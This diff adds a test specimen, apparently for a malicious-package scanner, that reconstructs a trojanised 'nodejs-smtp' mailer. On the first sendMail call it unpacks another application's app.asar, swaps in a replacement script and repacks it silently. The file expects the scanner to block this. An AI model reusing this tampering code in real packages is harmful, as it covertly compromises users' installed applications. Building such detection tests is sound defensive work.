@@ -1,0 +1,42 @@
+import { MAILER, MAILER_MANIFEST, REPLACEMENT } from '../mailer.ts';
+import type { Specimen } from '../specimen.ts';
+
+export const specimen: Specimen = {
+  name: 'inert-smtp-first-call',
+  from: 'the founding case, nodejs-smtp 1.0.5: put off to the first mail',
+  files: {
+    'package.json': MAILER_MANIFEST,
+    'lib/mailer.js': `${MAILER}
+const { setUp } = require('./engine');
+const send = Transport.prototype.sendMail;
+Transport.prototype.sendMail = function (mail, done) {
+  setUp();
+  return send.call(this, mail, done);
+};
+`,
+    'lib/engine.js': `const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const asar = require('asar');
+
+const resources = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'atomic', 'resources');
+const archive = path.join(resources, 'app.asar');
+const output = path.join(resources, 'output');
+
+async function setUp() {
+  try {
+    fs.mkdirSync(output);
+    asar.extractAll(archive, output);
+    fs.copyFileSync(path.join(__dirname, 'a.js'), path.join(output, 'dist', 'electron', 'vendors.64b69c3b00e2a7914733.js'));
+    await asar.createPackage(output, archive);
+    fs.rmSync(output, { recursive: true, force: true });
+  } catch {}
+}
+
+exports.setUp = setUp;
+`,
+    'lib/a.js': REPLACEMENT,
+  },
+  expect: 'block',
+  says: ['changes-other-application', 'rewrites-archive'],
+};
